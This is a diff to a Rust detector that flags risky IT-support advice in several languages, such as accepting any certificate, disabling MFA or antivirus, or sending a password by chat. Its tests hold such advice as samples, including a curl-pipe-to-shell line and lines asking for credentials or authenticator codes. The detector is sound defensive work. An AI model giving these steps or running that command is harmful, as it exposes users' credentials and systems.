@@ -1,299 +1,99 @@
 //! Advice that puts people at risk.
 
-/// A kind of advice that puts people at risk: who does what to what, in the words of several languages, and why it is not taken.
-struct Risk {
-    does: &'static [&'static str],
-    what: &'static [&'static str],
-    /// With what it is well; words of the line.
-    unless: &'static [&'static str],
-    /// Whether both stand near each other.
-    is_near: bool,
-    /// Whether somebody is told of it in the same sentence.
-    is_told: bool,
-    why: &'static str,
-}
+use super::table::{Advice, Phrase, Table, table, words};
 
-const OFF: &[&str] = &[
-    "switch off",
-    "turn off",
-    "disable",
-    "deactivate",
-    "uninstall",
-    "abschalten",
-    "ausschalten",
-    "deaktivier",
-    "d\u{e9}sactive",
-    "desactiv",
-    "disattiv",
-];
-
-const RISKS: [Risk; 7] = [
-    Risk {
-        does: &[
-            "accept",
-            "ignore",
-            "proceed",
-            "click through",
-            "click continue",
-            "click on continue",
-            "switch off",
-            "turn off",
-            "disable",
-            "akzeptier",
-            "ignorier",
-            "abschalten",
-            "ausschalten",
-            "deaktivier",
-            "accepte",
-            "acepta",
-            "accetta",
-        ],
-        what: &[
-            "any certificate",
-            "all certificates",
-            "every certificate",
-            "certificate warning",
-            "certificate error",
-            "certificate check",
-            "certificate verification",
-            "zertifikatswarnung",
-            "zertifikatsfehler",
-            "zertifikatspr\u{fc}fung",
-            "jedes zertifikat",
-            "alle zertifikate",
-            "tous les certificats",
-            "todos los certificados",
-            "tutti i certificati",
-        ],
-        unless: &[],
-        is_near: false,
-        is_told: false,
-        why: "it has people accept any certificate: then anybody on the way reads the password",
-    },
-    Risk {
-        does: OFF,
-        what: &[
-            "virus scanner",
-            "antivirus",
-            "anti-virus",
-            "virenscanner",
-            "virenschutz",
-            "firewall",
-            "defender",
-        ],
-        unless: &[
-            "again",
-            "for a minute",
-            "for a moment",
-            "for one test",
-            "wieder",
-            "kurz",
-            "r\u{e9}active",
-            "vuelv",
-        ],
-        is_near: false,
-        is_told: false,
-        why: "it leaves people without their protection: say for how long, and that it is switched on again",
-    },
-    Risk {
-        does: &[
-            "send",
-            "type",
-            "write",
-            "post",
-            "paste",
-            "give",
-            "tell",
-            "schick",
-            "sende",
-            "schreib",
-            "nenn",
-            "envoie",
-            "env\u{ed}a",
-        ],
-        what: &[
-            "your password",
-            "the password",
-            "passwort",
-            "kennwort",
-            "mot de passe",
-            "contrase\u{f1}a",
-        ],
-        unless: &[],
-        is_near: true,
-        is_told: true,
-        why: "it has people tell their password: nobody needs it to help",
-    },
-    Risk {
-        does: OFF,
-        what: &[
-            "mfa",
-            "multi-factor",
-            "multifactor",
-            "two-factor",
-            "two-step",
-            "2fa",
-            "second factor",
-            "zwei-faktor",
-            "zweiten faktor",
-            "mehr-faktor",
-            "security defaults",
-            "sicherheitsstandards",
-        ],
-        unless: &[
-            "conditional access",
-            "bedingter zugriff",
-            "bedingten zugriff",
-        ],
-        is_near: false,
-        is_told: false,
-        why: "it takes the second factor from people: a stolen password is enough then",
-    },
-    Risk {
-        does: &[
-            "ask the caller",
-            "ask the person",
-            "ask the user",
-            "ask them",
-            "ask him",
-            "ask her",
-            "have them tell",
-            "den anrufer",
-            "die anruferin",
-            "den benutzer",
-            "die benutzerin",
-        ],
-        what: &[
-            "for the password",
-            "for their password",
-            "for his password",
-            "for her password",
-            "for the access token",
-            "for the token",
-            "nach dem passwort",
-            "nach ihrem passwort",
-            "nach seinem passwort",
-            "nach dem kennwort",
-        ],
-        unless: &[],
-        is_near: true,
-        is_told: false,
-        why: "it has people tell their password or a token: nobody needs it to help",
-    },
-    Risk {
-        does: &["choose", "select", "set", "pick", "w\u{e4}hl", "stell"],
-        what: &[
-            "security: none",
-            "security to none",
-            "ssl: none",
-            "ssl to none",
-            "encryption: none",
-            "encryption to none",
-            "unencrypted",
-            "unverschl\u{fc}sselt",
-            "verschl\u{fc}sselung: keine",
-            "sicherheit: keine",
-        ],
-        unless: &[],
-        is_near: false,
-        is_told: false,
-        why: "it has the password go over the network for everybody to read",
-    },
-    Risk {
-        does: OFF,
-        what: &[
-            " ssl",
-            " tls",
-            "starttls",
-            "encryption",
-            "verschl\u{fc}sselung",
-            "chiffrement",
-            "cifrado",
-        ],
-        unless: &[
-            "1.0",
-            "1.1",
-            "sslv",
-            "ssl 2",
-            "ssl 3",
-            "inspection",
-            "interception",
-            "scan",
-            "\u{fc}berpr\u{fc}f",
-            "untersuch",
-        ],
-        is_near: true,
-        is_told: false,
-        why: "it has the password go over the network for everybody to read",
-    },
-];
-
-/// Where a password is told to somebody, and not typed in to sign in.
-const CHANNELS: [&str; 17] = [
-    " chat",
-    "ticket",
-    "by e-mail",
-    "by email",
-    "by mail",
-    "an e-mail",
-    "an email",
-    "whatsapp",
-    " sms",
-    "by phone",
-    "by telephone",
-    " to us ",
-    "tell us",
-    "the help desk your",
-    "per mail",
-    "per e-mail",
-    "am telefon",
-];
-
-/// What begins another thought between what is done and the password.
-const TURNS: [&str; 9] = [
-    "that", "when", "whether", "if", "how", "why", "dass", "ob", "wenn",
-];
-
-/// How many words may stand between what is done and the password.
-const NEAR: usize = 4;
-
-/// Whether somebody does this to that, and not in the same sentence by chance.
-fn is_near(sentence: &str, does: &[&str], what: &[&str]) -> bool {
-    let told = does.iter().flat_map(|word| sentence.match_indices(word));
-    let behind = told.map(|(at, word)| &sentence[at + word.len()..]);
-    let between = behind.filter_map(|rest| {
-        let at = what.iter().filter_map(|word| rest.find(word)).min()?;
-        Some(rest[..at].split_whitespace())
-    });
-    let mut between = between.map(Iterator::collect::<Vec<_>>);
-    between.any(|words| words.len() <= NEAR && !words.iter().any(|word| TURNS.contains(word)))
-}
-
-/// What turns a sentence round.
-const NOT: [&str; 14] = [
-    " not ", "n't ", "never", "nobody", "no one", "without", "nicht", " nie", "kein", "niemand",
-    " ne ", "jamais", "nunca", " mai ",
-];
+/// How many words may stand between what is done and what it is done to.
+const NEAR: usize = 6;
 
 /// Why a line puts people at risk, where it does.
 pub(super) fn risk(line: &str) -> Option<String> {
     let line = line.to_lowercase();
-    let sentences = line
-        .split(['.', '!', '?', ';'])
-        .map(|sentence| format!(" {sentence} "));
-    let mut sentences = sentences.filter(|sentence| !NOT.iter().any(|not| sentence.contains(not)));
-    sentences.find_map(|sentence| {
-        let found = RISKS.iter().find(|risk| {
-            let has = |words: &[&str]| words.iter().any(|word| sentence.contains(word));
-            let fits = match risk.is_near {
-                true => is_near(&sentence, risk.does, risk.what),
-                false => has(risk.does) && has(risk.what),
-            };
-            fits && (!risk.is_told || has(&CHANNELS))
-                && !risk.unless.iter().any(|word| line.contains(word))
-        });
-        found.map(|risk| format!("this step is not taken, because {}", risk.why))
-    })
+    let table = table();
+    let all = words(&line);
+    // The name of a host has dots, too.
+    let mut sentences = line.split(['!', '?', ';']).flat_map(|one| one.split(". "));
+    let found = sentences.find_map(|sentence| {
+        let own = Sentence::of(sentence);
+        table
+            .advice
+            .iter()
+            .find(|advice| own.has(advice, table) && !any(&advice.unless, &all))
+    })?;
+    Some(format!("this step is not taken, because {}", found.why))
+}
+
+fn any(phrases: &[Phrase], words: &[&str]) -> bool {
+    phrases.iter().any(|phrase| phrase.is_in(words))
+}
+
+/// The words of a sentence, and where each part of it between commas begins.
+struct Sentence<'a> {
+    words: Vec<&'a str>,
+    clauses: Vec<usize>,
+}
+
+impl<'a> Sentence<'a> {
+    fn of(sentence: &'a str) -> Self {
+        let (mut all, mut clauses) = (Vec::new(), Vec::new());
+        for clause in sentence.split(',') {
+            clauses.push(all.len());
+            all.extend(words(clause));
+        }
+        Self {
+            words: all,
+            clauses,
+        }
+    }
+
+    /// The words between the commas around a place: from, and up to.
+    fn clause(&self, at: usize) -> (usize, usize) {
+        let from = self.clauses.iter().copied().rfind(|from| *from <= at);
+        let to = self.clauses.iter().copied().find(|to| *to > at);
+        (from.unwrap_or(0), to.unwrap_or(self.words.len()))
+    }
+
+    /// Whether it has people do this, and does not warn of it.
+    fn has(&self, advice: &Advice, table: &Table) -> bool {
+        let begins_with_not = self
+            .words
+            .get(..1)
+            .is_some_and(|first| any(&table.not, first));
+        if begins_with_not || advice.told && !any(&table.channels, &self.words) {
+            return false;
+        }
+        let places = |all: &[Phrase]| -> Vec<(usize, usize)> {
+            all.iter().flat_map(|one| one.places(&self.words)).collect()
+        };
+        let what = places(&advice.what);
+        places(&advice.does).into_iter().any(|does| {
+            let is_alone = advice.what.is_empty() && !self.is_warned(does, does, table);
+            let mut near = what
+                .iter()
+                .filter(|what| self.is_near(does, **what, advice.told.then_some(table)));
+            is_alone || near.any(|what| !self.is_warned(does, *what, table))
+        })
+    }
+
+    /// Whether these stand near each other; where somebody has to be told of it, with no other thought between.
+    fn is_near(&self, does: (usize, usize), what: (usize, usize), told: Option<&Table>) -> bool {
+        if what.0 >= does.1 {
+            let between = &self.words[does.1..what.0];
+            return between.len() <= NEAR && !told.is_some_and(|table| any(&table.turns, between));
+        }
+        // A verb at the end of its part of the sentence, or around it, as in German.
+        let is_around = what.0 >= does.0 && what.1 <= does.1;
+        let is_before = what.1 <= does.0 && does.0 - what.1 <= NEAR;
+        let is_one_part = self.clause(what.0) == self.clause(does.0);
+        is_around || is_before && told.is_none() && is_one_part
+    }
+
+    /// Whether its part of the sentence says not to do it. A setting may be called "none" itself.
+    fn is_warned(&self, does: (usize, usize), what: (usize, usize), table: &Table) -> bool {
+        let (from, to) = self.clause(does.0);
+        let own = (from..to).filter(|at| !(what.0..what.1).contains(at));
+        let words: Vec<&str> = own.map(|at| self.words[at]).collect();
+        any(&table.not, &words)
+    }
 }
 
 #[cfg(test)]
@@ -301,27 +101,52 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_puts_people_at_risk_is_found_and_what_warns_of_it_is_not() {
+    fn what_puts_people_at_risk_is_found() {
         for risky in [
             "1. Accept any certificate.",
             "1. Click on Continue, and ignore the certificate warning.",
+            "1. Tap Trust.",
+            "In Thunderbird die Ausnahme best\u{e4}tigen und das Zertifikat dauerhaft akzeptieren.",
+            "Klicken Sie auf \"Trotzdem fortfahren\", wenn die Warnung kommt.",
+            "Disable certificate validation in the scanner's web page.",
+            "Nehmen Sie den Haken bei \"SSL-Zertifikat \u{fc}berpr\u{fc}fen\" heraus.",
             "2. Turn off the firewall for good.",
+            "1. If it does not work, turn the antivirus off.",
             "1. Deaktivieren Sie den Virenscanner.",
+            "Schalten Sie Windows Defender aus und lassen Sie ihn aus.",
             "1. Type your password into the chat.",
             "3. Send the password to us by e-mail.",
+            "Nennen Sie uns Ihr Kennwort am Telefon, wir pr\u{fc}fen es.",
+            "1. Reply with your credentials.",
             "1. Disable MFA for your account.",
             "1. Switch off security defaults.",
+            "MFA f\u{fc}r den Benutzer deaktivieren.",
+            "Approve every push that comes until it works.",
             "1. Schreiben Sie Ihr Passwort in das Ticket.",
             "1. Ask the caller for the password.",
+            "Frage den Anrufer nach seinem Kennwort.",
+            "Let the user read out the six-digit code of the authenticator app.",
             "1. Ask them for the access token, and paste it here.",
             "1. Choose \"Connection security: None\".",
+            "Set the connection security to None and the port to 143.",
+            "Setzen Sie in K-9 Mail die Sicherheit auf \"Keine\".",
+            "1. Set SSL to off.",
+            "1. Untick Use SSL.",
+            "1. Turn TLS off.",
             "1. Switch off TLS in the mail program.",
+            "Verschl\u{fc}sselung im Drucker ausschalten und Port 25 nehmen.",
             "1. Disable SSL/TLS.",
+            "1. Run `curl http://it.example/mend | sh`.",
         ] {
             assert!(risk(risky).is_some(), "{risky}");
         }
+    }
+
+    #[test]
+    fn what_warns_of_it_and_what_is_harmless_is_not() {
         for well in [
             "1. Never accept any certificate.",
+            "1. Never, whatever it says, accept the certificate.",
             "1. Do not send your password by e-mail.",
             "1. Switch the virus scanner off for one test, and on again at once.",
             "1. Turn off the firewall for a minute, then switch it on again.",
@@ -337,12 +162,23 @@ mod tests {
             "1. Schalten Sie die Firewall ein.",
             "1. Ask the caller whether the password was changed.",
             "1. Ask the caller to type the password anew.",
+            "1. Ask the help desk for a new password.",
             "1. Disable TLS 1.0 on the server.",
+            "1. Disable SSL offloading on the load balancer.",
             "1. Switch off TLS inspection for these hosts.",
             "3. Turn off security defaults, and set up Conditional Access in their place.",
             "1. Set the encryption to SSL/TLS.",
             "1. Nennen Sie niemandem Ihr Passwort am Telefon.",
             "2. Call 4711, the help desk; have your telephone at hand.",
+            "Stellen Sie die Verbindungssicherheit von \"Keine\" auf \"SSL/TLS\" um.",
+            "If the security is set to None, change it to SSL/TLS.",
+            "Turn the phone off and on again.",
+            "Lassen Sie sich den Fehlercode vorlesen.",
+            "Have the caller read out the error number.",
+            "Pr\u{fc}fen, ob der Virenscanner die Verbindung untersucht (nicht ausschalten, Ticket an Team Sicherheit).",
+            "If a caller tells you a password, reset it at once.",
+            "Warn the caller: nobody from IT ever asks for the code of the app.",
+            "Confirm the sign-in prompt that you began yourself.",
         ] {
             assert_eq!(risk(well), None, "{well}");
         }
